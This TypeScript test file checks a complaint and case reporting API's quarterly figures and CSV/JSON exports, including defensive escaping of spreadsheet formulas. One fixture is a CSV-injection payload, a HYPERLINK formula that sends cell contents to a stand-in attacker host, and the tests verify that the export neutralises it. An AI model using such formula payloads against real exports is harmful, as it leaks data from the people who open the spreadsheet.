import { ComplaintReport } from '@larkfield/api-schemas/regulation/complaint-report';
import { CaseReport } from '@larkfield/api-schemas/staff-calls/case-report';
import { QuarterlyFigures } from '@larkfield/api-schemas/staff-calls/quarterly-figures';
import { TEST_ENGINES, testOn } from '@larkfield/database/test-engines';
import { describe, expect } from 'vitest';
import { caseProvider, desk } from '../../testing/cases.ts';
import { ENQUIRY, FEEDBACK, JOINING } from '../../testing/leads.ts';
import { staffMember } from '../../testing/staff.ts';

/** Reads a table as a spreadsheet does (RFC 4180): records of cells by their column. */
function readCsv(text: string): Record<string, string>[] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ',') continue;
    rows.push(row);
    row = [];
    if (end === '') break;
  }
  const [names = [], ...records] = rows.filter((cells) => cells.length > 1);
  return records.map((cells) => Object.fromEntries(names.map((name, index) => [name, cells[index] ?? ''])));
}

/** Somebody may type this as a reason, so that it runs when staff open the table in a spreadsheet. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Billing")';

describe.each(TEST_ENGINES)('figures of all kinds of case as CSV and JSON on %s', (engine) => {
  const test = testOn(engine);

  test('[DK-06] each kind of case of a quarter is counted by state', async ({ database }) => {
    const { staff, ...filling } = await desk(database, { TEST_NOW: '2026-11-16T09:00:00Z' });
    const answered = await filling.sendLead(ENQUIRY);
    await filling.sendLead(ENQUIRY);
    await filling.sendLead(JOINING);
    await filling.sendLead(FEEDBACK);
    await filling.sendLead();
    await staff.reply(answered.id, 'Here you are', { state: 'waiting-for-customer' });
    await staff.change(answered.id, { state: 'resolved' });

    const { call } = await caseProvider(database, { TEST_NOW: '2026-11-25T09:00:00Z' });
    const viewer = await staffMember(database, call, 'viewer');
    const path = '/reports/cases?quarter=2026-Q4';
    const { data } = CaseReport.parse(await (await viewer.ask('GET', path)).json());
    expect(data.attributes).toMatchObject({
      from: '2026-10-01',
      to: '2026-12-31',
      kinds: [
        { kind: 'complaint', received: 1, open: 1, 'answered-in-time': 0, 'answered-late': 0, 'share-in-time': null },
        {
          kind: 'enquiry',
          received: 2,
          open: 1,
          resolved: 1,
          'resolved-by-next-working-day': 1,
          'share-by-next-working-day': 0.5,
          'answered-in-time': 1,
          // Promised within two days, nine days ago.
          'answered-late': 1,
          'share-in-time': 0.5,
        },
        { kind: 'feedback', received: 1, 'answered-late': 0, 'share-in-time': null },
        { kind: 'priority-services', received: 1, 'answered-late': 1, 'share-in-time': 0 },
      ],
    });

    const csv = await viewer.ask('GET', path, undefined, { Accept: 'text/csv' });
    expect(csv.headers.get('Content-Disposition')).toBe('attachment; filename="cases-2026-Q4.csv"');
    const records = readCsv(await csv.text());
    expect(records.map(({ kind }) => kind)).toEqual(['complaint', 'enquiry', 'feedback', 'priority-services']);
    for (const [index, figures] of data.attributes.kinds.entries())
      for (const [name, value] of Object.entries(figures)) expect(records[index]?.[name]).toBe(String(value ?? ''));
    const empty = CaseReport.parse(await (await viewer.ask('GET', '/reports/cases?quarter=2036-Q1')).json());
    expect(empty.data.attributes.kinds.map(({ received }) => received)).toEqual([0, 0, 0, 0]);
    expect((await viewer.ask('GET', '/reports/cases?quarter=2026')).status).toBe(400);
  });

  test('[DK-06] one call has the figures of five quarters, as the calls for each quarter have them', async ({
    database,
  }) => {
    const { sendLead, staff } = await desk(database, { TEST_NOW: '2026-11-16T09:00:00Z' });
    await sendLead();
    await sendLead(ENQUIRY);
    const { data } = QuarterlyFigures.parse(await (await staff.ask('GET', '/reports/figures?quarter=2027-Q1')).json());
    const { quarters } = data.attributes;
    expect(quarters.map(({ cases }) => cases.quarter)).toEqual(['2026-Q1', '2026-Q2', '2026-Q3', '2026-Q4', '2027-Q1']);
    for (const { complaints, cases } of quarters) {
      const read = async (path: string) => (await staff.ask('GET', `${path}?quarter=${cases.quarter}`)).json();
      expect(complaints).toEqual(ComplaintReport.parse(await read('/reports/complaints')).data.attributes);
      expect(cases).toEqual(CaseReport.parse(await read('/reports/cases')).data.attributes);
    }
    expect(quarters.map(({ complaints }) => complaints.received)).toEqual([0, 0, 0, 1, 0]);
  });

  test('[DK-06] a reason is the category, or the plain name of the chosen subject, and never words of a customer’s', async ({
    database,
  }) => {
    const { sendLead, staff } = await desk(database, { TEST_NOW: '2026-11-20T14:05:00Z' });
    const about = (caseType: string) => sendLead({ 'additional-information': { caseType, accountPrefix: 'A' } });
    await about('Dispute Bill/Balance');
    await about('Dispute Bill/Balance');
    await about('Siân Morris of 12 High Street owes me money');
    const { id } = await about('Siân Morris of 12 High Street owes me money');
    await staff.change(id, { category: 'Billing' });
    const answer = await staff.ask('GET', '/reports/complaints?quarter=2026-Q4');
    const { data } = ComplaintReport.parse(await answer.json());
    expect(data.attributes['top-reasons'].map(({ reason, complaints }) => [reason, complaints])).toEqual([
      ['A bill or balance that I disagree with', 2],
      ['Billing', 1],
      ['No reason given', 1],
    ]);
  });

  test('[DK-06] a reason that is a formula is text in the table, and itself in JSON', async ({ database }) => {
    const { sendLead, staff } = await desk(database, { TEST_NOW: '2026-11-20T14:05:00Z' });
    const { id } = await sendLead();
    expect((await staff.change(id, { category: FORMULA })).status).toBe(200);
    const path = '/reports/complaints?quarter=2026-Q4';
    const { data } = ComplaintReport.parse(await (await staff.ask('GET', path)).json());
    expect(data.attributes['top-reasons']).toEqual([{ reason: FORMULA, complaints: 1, share: 1 }]);
    const records = readCsv(await (await staff.ask('GET', path, undefined, { Accept: 'text/csv' })).text());
    const cells = records.flatMap((record) => Object.values(record));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(records.filter(({ figure }) => figure === 'top-reason')).toEqual([
      {
        figure: 'top-reason',
        from: '2026-10-01',
        to: '2026-12-31',
        complaints: '1',
        share: '1',
        reason: `'${FORMULA}`,
      },
    ]);
    expect(records.find(({ figure }) => figure === 'received')).toMatchObject({ complaints: '1' });
    expect(records.at(-1)).toMatchObject({ figure: 'annual-count', from: '2026-01-01', complaints: '1' });
  });
});
